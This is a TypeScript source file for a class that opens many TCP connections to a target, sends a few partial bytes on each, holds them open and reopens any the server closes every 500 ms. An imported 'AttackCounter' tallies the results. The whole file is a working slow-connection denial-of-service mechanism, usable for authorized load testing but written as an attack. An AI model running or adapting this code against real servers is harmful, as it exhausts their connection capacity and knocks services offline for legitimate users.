import { connect, type Socket, type TcpNetConnectOpts } from 'node:net';
import { ResponseReader } from './response-reader.js';
import type { AttackCounter } from './attack-counter.js';

const WAVE_INTERVAL_MS = 500;

/**
 * Connections that each send a few bytes and then nothing. Those that the server answers or closes are opened again, all
 * of an interval together.
 */
export class HeldConnections {
  private readonly sockets = new Map<number, Socket>();
  private readonly timer: NodeJS.Timeout;

  /** @param first what each connection sends */
  constructor(
    private readonly address: TcpNetConnectOpts,
    private readonly first: readonly string[],
    private readonly counter: AttackCounter,
  ) {
    this.openMissing();
    this.timer = setInterval(() => this.openMissing(), WAVE_INTERVAL_MS);
  }

  stop(): void {
    clearInterval(this.timer);
    for (const socket of this.sockets.values()) socket.destroy();
  }

  private openMissing(): void {
    this.first.forEach((bytes, index) => {
      if (!this.sockets.has(index)) this.open(index, bytes);
    });
  }

  private open(index: number, bytes: string): void {
    const socket = connect(this.address);
    const reader = new ResponseReader();
    this.sockets.set(index, socket);
    socket.once('connect', () => {
      this.counter.countConnection();
      if (bytes !== '') socket.write(bytes);
    });
    socket.on('data', (chunk) => {
      const status = reader.push(chunk);
      if (status === undefined) return;
      this.counter.countAnswer(status);
      socket.destroy();
    });
    socket.on('error', () => {});
    socket.once('close', () => this.sockets.delete(index));
  }
}
